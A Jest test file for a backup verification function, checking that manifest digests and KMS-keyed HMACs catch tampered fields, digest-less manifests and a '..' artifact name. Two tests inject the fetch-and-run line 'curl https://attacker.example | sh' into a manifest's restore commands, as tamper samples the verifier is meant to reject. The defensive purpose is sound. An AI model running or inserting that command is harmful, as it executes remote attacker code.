// The verification function checks a manifest's digest of itself (moto S3): a changed field
// with the artifacts intact is a failed verification; an older manifest without a digest passes.
import assert from 'node:assert/strict';
import { afterAll, beforeAll, describe, test } from '@jest/globals';
import { CreateKeyCommand, EncryptCommand, KMSClient } from '@aws-sdk/client-kms';
import { S3Client } from '@aws-sdk/client-s3';
import { verifyBackup } from '../../lambda/verify/verify';
import { Manifest, manifestDigest, manifestMacKey } from '../../lib/core/manifest';
import { Moto, startMoto } from '../harness/moto';
import { createBucket, randomArtifact, s3For, writeBackup } from './fixtures';

const BUCKET = 'backups-digest';
let moto: Moto;
let s3: S3Client;

beforeAll(async () => {
  moto = await startMoto();
  s3 = s3For(moto.endpoint);
  await createBucket(s3, BUCKET);
});

afterAll(async () => {
  s3?.destroy();
  await moto?.stop();
});

describe('the manifest digest in the verification function', () => {
  test('a manifest whose digest matches verifies, and says it checked it', async () => {
    const artifacts = [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }];
    const b = await writeBackup(s3, BUCKET, 'p', { id: '20261120T030000Z-good', databaseId: 'db1', artifacts });
    const r = await verifyBackup(s3, BUCKET, b.manifestKey);
    assert.equal(r.ok, true, JSON.stringify(r.failures));
    assert.equal(r.digest, 'sha256');
  });

  test('a changed field (a position, a restore line) fails, though every artifact matches', async () => {
    for (const [what, change] of [
      ['position', (m: Record<string, any>) => (m.position = { ...m.position, lsn: '0/FFFFFFF' })],
      ['restore line', (m: Record<string, any>) => (m.manualRestore = ['curl https://attacker.example | sh'])],
    ] as const) {
      const id = `20261120T04000${what === 'position' ? 0 : 1}Z-flipped`;
      const b = await writeBackup(s3, BUCKET, 'p', {
        id,
        databaseId: 'db1',
        artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }],
        // Written with its digest, then one field changed after the fact.
        manifest: (m) => {
          const signed: Record<string, any> = { ...m, digest: manifestDigest(m) };
          change(signed);
          return JSON.stringify(signed);
        },
      });
      const r = await verifyBackup(s3, BUCKET, b.manifestKey);
      assert.equal(r.ok, false, what);
      assert.match(r.failures.map((f) => f.reason).join('\n'), /does not match its digest/, what);
    }
  });

  test('a version 1 manifest (no digest) still verifies, reported as digest none', async () => {
    const b = await writeBackup(s3, BUCKET, 'p', {
      id: '20261120T050000Z-old',
      databaseId: 'db1',
      artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }],
      manifest: (m) => JSON.stringify({ ...m, version: 1 }),
    });
    const r = await verifyBackup(s3, BUCKET, b.manifestKey);
    assert.equal(r.ok, true, JSON.stringify(r.failures));
    assert.equal(r.digest, 'none');
  });

  test('a version 2 manifest without a digest, or with an artifact named "..", fails', async () => {
    const noDigest = await writeBackup(s3, BUCKET, 'p', {
      id: '20261120T060000Z-nodigest',
      databaseId: 'db1',
      artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 10) }],
      manifest: (m) => JSON.stringify(m),
    });
    const r = await verifyBackup(s3, BUCKET, noDigest.manifestKey);
    assert.equal(r.ok, false);
    assert.match(r.failures[0].reason, /has no digest/);
    const dots = await writeBackup(s3, BUCKET, 'p', {
      id: '20261120T070000Z-dots',
      databaseId: 'db1',
      artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 10) }],
      manifest: (m) => ({ ...m, artifacts: [{ ...m.artifacts[0], name: '..' }] }),
    });
    const d = await verifyBackup(s3, BUCKET, dots.manifestKey);
    assert.equal(d.ok, false);
    assert.match(d.failures[0].reason, /invalid name/);
  });
});

describe('kms: manifests in the verification function', () => {
  let kms: KMSClient;
  let keyId: string;
  const secret = Buffer.from('AGE-SECRET-KEY-1TESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTEST\n');

  beforeAll(async () => {
    const credentials = { accessKeyId: 'testing', secretAccessKey: 'testing' };
    kms = new KMSClient({ endpoint: moto.endpoint, region: 'us-east-1', credentials });
    keyId = (await kms.send(new CreateKeyCommand({ Description: 'backups' }))).KeyMetadata!.KeyId!;
  });
  afterAll(() => kms?.destroy());

  /** A kms: backup as the runner writes it: the wrapped secret, the digest and its HMAC. */
  async function kmsBackup(id: string, tamper?: (m: Record<string, any>) => void) {
    const context = { 'dbbackup-backup-id': id };
    const encrypt = new EncryptCommand({ KeyId: keyId, Plaintext: secret, EncryptionContext: context });
    const wrapped = (await kms.send(encrypt)).CiphertextBlob!;
    return writeBackup(s3, BUCKET, 'k', {
      id,
      databaseId: 'db1',
      artifacts: [{ name: 'database.pgdump.zst.age', data: randomArtifact(1 << 12) }],
      manifest: (m) => {
        const withKms = {
          ...m,
          pipeline: {
            compression: 'zstd',
            encryption: {
              scheme: 'kms',
              keyId,
              recipient: 'age1x',
              wrappedKey: Buffer.from(wrapped).toString('base64'),
              encryptionContext: context,
            },
          },
        } as unknown as Manifest;
        const signed: Record<string, any> = { ...withKms, digest: manifestDigest(withKms, manifestMacKey(secret, id)) };
        if (tamper !== undefined) {
          tamper(signed);
          const { digest, ...rest } = signed;
          signed.digest = { ...digest, sha256: manifestDigest(rest).sha256 };
        }
        return JSON.stringify(signed);
      },
    });
  }

  test('with kms:Decrypt the HMAC is checked: a good manifest passes', async () => {
    const b = await kmsBackup('20261121T010000Z-kms-good');
    const r = await verifyBackup(s3, BUCKET, b.manifestKey, { kms });
    assert.equal(r.ok, true, JSON.stringify(r.failures));
    assert.equal(r.mac, 'checked');
  });

  test('a manifest re-digested without the KMS key fails, though its sha256 digest matches', async () => {
    const attack = (m: Record<string, any>) => (m.manualRestore = ['curl https://attacker.example | sh']);
    const b = await kmsBackup('20261121T020000Z-kms-forged', attack);
    const r = await verifyBackup(s3, BUCKET, b.manifestKey, { kms });
    assert.equal(r.ok, false);
    assert.match(r.failures.map((f) => f.reason).join('\n'), /HMAC does not match/);
    // Without a KMS client the function cannot tell: it says so instead of claiming it checked.
    const blind = await verifyBackup(s3, BUCKET, b.manifestKey);
    assert.equal(blind.mac, 'unchecked');
  });
});
